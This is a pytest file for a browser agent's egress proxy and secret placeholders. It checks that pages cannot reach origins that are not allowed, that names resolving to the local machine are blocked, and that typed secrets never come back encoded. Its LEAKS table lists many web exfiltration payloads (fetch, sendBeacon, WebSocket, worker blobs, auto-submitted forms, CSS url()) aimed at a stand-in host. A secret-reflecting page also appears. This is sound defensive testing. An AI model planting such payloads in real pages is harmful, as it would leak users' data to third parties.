"""The guard in a real browser: nothing leaves for where it may not, and no secret comes back."""

import asyncio
import contextlib
from base64 import b64encode
from collections.abc import AsyncIterator, Callable
from urllib.parse import quote

import pytest

from browser_agent.actions import Click, FieldValue, FillForm, Find, Navigate, Read, Type
from browser_agent.actions.perform import perform
from browser_agent.browser.browser import Browser
from browser_agent.browser.window import Window
from browser_agent.network.egress import Egress, FilterProxy
from browser_agent.network.secrets import Secret, Secrets
from tests.browser_agent.doing import do, ref, seen, visit
from tests.sites.server import Site

pytestmark = pytest.mark.anyio

Serve = Callable[[dict[str, str]], Site]


@pytest.fixture(scope="module")
async def guarded() -> AsyncIterator[Browser]:
    """A browser that may go nowhere until an origin is named."""
    async with await Browser.launch(egress=Egress.of(("nowhere.invalid",))) as browser:
        yield browser


@pytest.fixture
async def tab(guarded: Browser) -> AsyncIterator[Window]:
    """A window of that browser."""
    window = await guarded.window()
    yield window
    await window.close()


async def test_a_start_address_allows_its_own_origin_and_no_other(guarded: Browser, tab: Window, serve: Serve) -> None:
    here, there = serve({"/": "<title>Here</title>"}), serve({"/": "<title>There</title>"})
    guarded.permit(f"{here.url}/")
    assert (await visit(tab, f"{here.url}/")).title == "Here"
    outcome = await do(tab, Navigate(kind="navigate", url=f"{there.url}/"))
    assert outcome.kind == "refused"
    assert "--allow" in outcome.message
    assert there.seen == []


LEAKS = {
    "redirect": "<script>location = '/to?url=THERE/leak'</script>",
    "redirect chain": "<script>location = '/to?url=' + encodeURIComponent('/to?url=THERE/leak')</script>",
    "script": "<script>location = 'THERE/leak'</script>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=THERE/leak'>",
    "popup": "<script>open('THERE/leak')</script>",
    "frame": "<iframe src='THERE/leak'></iframe>",
    "image": "<img src='THERE/leak'><img src='/to?url=THERE/leak'>",
    "fetch": "<script>fetch('THERE/leak', {mode: 'no-cors'})</script>",
    "beacon": "<script>navigator.sendBeacon('THERE/leak', 'x')</script>",
    "socket": "<script>new WebSocket('THERE/leak'.replace('http', 'ws'))</script>",
    "events": "<script>new EventSource('THERE/leak')</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('THERE/leak', {mode: 'no-cors'})\"])))</script>",
    "form": "<form id=f action='THERE/leak' method=post><input name=x value=1></form><script>f.submit()</script>",
    "download": "<a id=a download href='THERE/leak'>x</a><script>a.click()</script>",
    "prefetch": "<link rel=prefetch href='THERE/leak'><link rel=preconnect href='THERE'><link rel=dns-prefetch href='THERE'>",
    "style": "<style>body { background: url(THERE/leak) } @import url(THERE/leak);</style>",
    "object": "<object data='THERE/leak'></object><embed src='THERE/leak'>",
    "video": "<video src='THERE/leak' autoplay></video>",
}


@pytest.mark.parametrize("how", LEAKS)
async def test_no_way_out_of_a_page_leads_past_the_rule(guarded: Browser, tab: Window, serve: Serve, how: str) -> None:
    there = serve({})
    leak = LEAKS[how]
    here = serve(
        {"/": f"<title>Here</title><p>Words</p>{leak}".replace("THERE", there.url), "/next": "<title>Next</title>"}
    )
    guarded.permit(f"{here.url}/")
    await perform(tab, [Navigate(kind="navigate", url=f"{here.url}/")])
    await asyncio.wait_for(_refused(tab, there.port), 10)
    assert there.seen == []
    assert (await visit(tab, f"{here.url}/next")).title == "Next"


async def _refused(tab: Window, port: int) -> None:
    assert tab.proxy is not None
    while port not in {refusal.port for refusal in tab.proxy.refusals}:  # noqa: ASYNC110
        await asyncio.sleep(0.02)


async def test_a_refused_page_leaves_an_empty_tab_and_nothing_to_read(
    guarded: Browser, tab: Window, serve: Serve
) -> None:
    there = serve({})
    frame = f"<title>Here</title><p>Words</p><iframe src='{there.url}/z'></iframe>"
    here = serve({"/": f"<a href='/to?url={there.url}/y'>Round</a>", "/framed": frame})
    guarded.permit(f"{here.url}/")
    page = await visit(tab, f"{here.url}/")
    for act in (
        Click(kind="click", ref=ref(page, "link", "Round")),
        Navigate(kind="navigate", url=f"{here.url}/to?url={there.url}/x"),
    ):
        outcome = await do(tab, act)
        assert outcome.kind == "refused"
        assert seen(outcome).url == "about:blank"
        assert "connection" not in seen(outcome).full
    framed = await visit(tab, f"{here.url}/framed")
    assert "Words" in framed.full
    assert "connection" not in framed.full
    assert there.seen == []


async def test_pages_forms_and_files_pass_unharmed_through_the_proxy(guarded: Browser, tab: Window, lab: str) -> None:
    guarded.permit(lab)
    page = await visit(tab, f"{lab}/form.html")
    fields = (FieldValue(ref=ref(page, "textbox", "Name"), value="Ada & co"),)
    await do(tab, FillForm(kind="fill_form", fields=fields))
    sent = seen(await do(tab, Click(kind="click", ref=ref(page, "button", "Send"))))
    assert "name=Ada & co" in sent.text
    assert sent.url == f"{lab}/echo"
    file = await do(tab, Navigate(kind="navigate", url=f"{lab}/file?name=a.bin"))
    assert file.ok, file.message


async def test_a_name_that_resolves_into_this_machine_is_refused(monkeypatch: pytest.MonkeyPatch, serve: Serve) -> None:
    site = serve({"/": "<title>Inside</title>"})

    async def resolve(host: str, port: int) -> tuple[str, ...]:
        return ("127.0.0.1",)

    monkeypatch.setattr("browser_agent.network.egress._resolve", resolve)
    async with await Browser.launch(egress=Egress.of()) as browser:
        window = await browser.window()
        outcome = await do(window, Navigate(kind="navigate", url=f"http://rebound.example:{site.port}/"))
        assert outcome.kind == "refused"
        assert "machine" in outcome.message
        secure = await do(window, Navigate(kind="navigate", url=f"https://rebound.example:{site.port}/"))
        assert secure.kind == "refused"
    assert site.seen == []


@pytest.mark.parametrize(
    "request_",
    [
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"nonsense\r\n\r\n",
        b"CONNECT 127.0.0.1:99999 HTTP/1.1\r\n\r\n",
        b"G" * 200_000,
    ],
    ids=["own path", "nonsense", "port", "endless"],
)
async def test_what_is_no_request_gets_no_connection(request_: bytes) -> None:
    proxy = FilterProxy(Egress.of())
    await proxy.start()
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", int(proxy.address.rpartition(":")[2]))
        answer = b""
        with contextlib.suppress(ConnectionError):  # hanging up in the middle is an answer too
            writer.write(request_)
            writer.write_eof()
            answer = await asyncio.wait_for(reader.read(), 5)
        assert b" 200 " not in answer
        writer.close()
    finally:
        await proxy.close()


async def test_closing_drops_open_connections_without_a_word(serve: Serve) -> None:
    said: list[dict[str, object]] = []
    asyncio.get_running_loop().set_exception_handler(lambda _, context: said.append(context))
    site = serve({})
    proxy = FilterProxy(Egress.of().with_origin(site.url))
    await proxy.start()
    ends = [await asyncio.open_connection("127.0.0.1", int(proxy.address.rpartition(":")[2])) for _ in range(3)]
    ends[1][1].write(f"CONNECT 127.0.0.1:{site.port} HTTP/1.1\r\n\r\n".encode())
    assert b" 200 " in await asyncio.wait_for(ends[1][0].readline(), 5)
    ends[2][1].write(f"GET {site.url}/silent HTTP/1.1\r\n\r\n".encode())
    await proxy.close()
    for reader, writer in ends:
        with contextlib.suppress(ConnectionError):
            await asyncio.wait_for(reader.read(), 5)
        writer.close()
    assert said == []


VALUE = "hunter2 & Söhne/42"
SECRETS = Secrets((Secret("door", VALUE, "127.0.0.1"), Secret("other", "elsewhere-only-1", "example.org")))

GIVES_BACK = """<title>Door</title><form action=/echo><input name=code aria-label=Code oninput="
  const v = this.value, b = btoa(unescape(encodeURIComponent(v)));
  document.title = v; location.hash = encodeURIComponent(v);
  out.innerHTML = ''; for (const t of [v, encodeURIComponent(v), b, btoa('xy' + unescape(encodeURIComponent(v)) + 'z'), v.split('').join('\\u200b')])
    { const p = document.createElement('p'); p.textContent = t; out.append(p); }
  const l = document.createElement('a'); l.href = '/x?' + new URLSearchParams({ v }); l.textContent = 'back ' + v; out.append(l);
  const k = document.createElement('button'); k.setAttribute('aria-label', v); out.append(k);
"><button>Enter</button></form><h2>Said</h2><div id=out></div>"""


@pytest.fixture
async def keeper(browser: Browser) -> AsyncIterator[Window]:
    """A window that knows two secrets."""
    window = await browser.window(secrets=SECRETS)
    yield window
    await window.close()


async def test_a_secret_is_typed_by_its_placeholder_and_comes_back_in_no_form(keeper: Window, serve: Serve) -> None:
    site = serve({"/": GIVES_BACK})
    page = await visit(keeper, f"{site.url}/")
    typed = await do(keeper, Type(kind="type", ref=ref(page, "textbox", "Code"), text="<secret:door>"))
    assert typed.ok, typed.message
    outcomes = [typed, await do(keeper, Read(kind="read")), await do(keeper, Find(kind="find", query="back"))]
    outcomes.append(await do(keeper, Click(kind="click", ref=ref(seen(typed), "button", "Enter"))))
    assert f"code={quote(VALUE, safe='').replace('%20', '+')}" in "".join(site.seen)
    encoded = b64encode(VALUE.encode()).decode()
    for outcome in outcomes:
        everything = outcome.model_dump_json()
        assert "<secret:door>" in everything
        for form in (VALUE, quote(VALUE, safe=""), quote(VALUE), encoded, encoded[4:-4], "hunter2"):
            assert form not in everything


async def test_a_secret_of_another_site_is_not_typed(keeper: Window, serve: Serve) -> None:
    site = serve({"/": "<input aria-label=Code>"})
    page = await visit(keeper, f"{site.url}/")
    code = ref(page, "textbox", "Code")
    outcome = await do(keeper, Type(kind="type", ref=code, text="<secret:other>"))
    assert outcome.kind == "refused"
    filled = await do(keeper, FillForm(kind="fill_form", fields=(FieldValue(ref=code, value="a <secret:other>"),)))
    assert filled.kind == "refused"
    assert "elsewhere" not in filled.model_dump_json()
    unknown = await do(keeper, Type(kind="type", ref=code, text="<secret:nobody>"))
    assert unknown.kind == "not_possible"


async def test_a_secret_is_not_typed_into_a_frame_of_another_site(browser: Browser, serve: Serve) -> None:
    window = await browser.window(secrets=Secrets((Secret("door", VALUE, "localhost"),)))
    try:
        outer = serve({"/": "<p>Outer</p><iframe srcdoc='<input aria-label=Trap>'></iframe><input aria-label=Own>"})
        page = await visit(window, f"http://localhost:{outer.port}/")
        trap = await do(window, Type(kind="type", ref=ref(page, "textbox", "Trap"), text="<secret:door>"))
        assert trap.kind == "refused"
        own = await do(window, Type(kind="type", ref=ref(page, "textbox", "Own"), text="<secret:door>"))
        assert own.ok
    finally:
        await window.close()


async def test_a_placeholder_in_an_address_is_never_filled_in(keeper: Window, serve: Serve) -> None:
    site = serve({"/": "<p>x</p>"})
    await do(keeper, Navigate(kind="navigate", url=f"{site.url}/?q=<secret:door>"))
    assert all("hunter2" not in path for path in site.seen)
